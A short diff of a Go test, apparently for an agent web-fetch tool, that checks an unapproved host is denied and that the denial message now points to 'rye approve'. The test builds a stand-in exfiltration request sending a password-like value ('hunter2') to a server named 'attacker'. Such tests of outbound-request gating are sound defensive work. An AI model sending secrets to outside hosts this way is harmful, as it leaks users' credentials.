@@ -114,7 +114,7 @@ func TestHostsAreAskedAbout(t *testing.T) {
 		return execute(t, s, "rye/web/webfetch", map[string]any{"url": address, "format": "text"})
 	}
 	s, _ := h.connect(nil)
-	if code, said := fetch(s, attacker.URL+"/?d=hunter2"); code != "denied" || !strings.Contains(said, "--host") {
+	if code, said := fetch(s, attacker.URL+"/?d=hunter2"); code != "denied" || !strings.Contains(said, "rye approve") {
 		t.Errorf("a new host: %s", said)
 	}
 	at, _ := url.Parse(friend.URL)
